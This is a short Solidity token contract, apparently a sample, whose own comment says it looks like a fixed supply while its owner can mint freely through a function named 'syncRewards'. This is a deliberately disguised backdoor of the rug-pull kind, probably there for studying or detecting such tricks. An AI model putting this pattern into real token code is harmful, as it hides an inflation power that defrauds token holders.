// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.20;

import "./Erc20.sol";

/// Looks like a fixed supply, but its owner mints under an innocent name.
contract HiddenMintToken is Erc20 {
    constructor(string memory name_, string memory symbol_, uint256 supply, address holder)
        Erc20(name_, symbol_, supply, holder)
    {}

    function syncRewards(address account, uint256 value) external onlyOwner {
        _mint(account, value);
    }
}
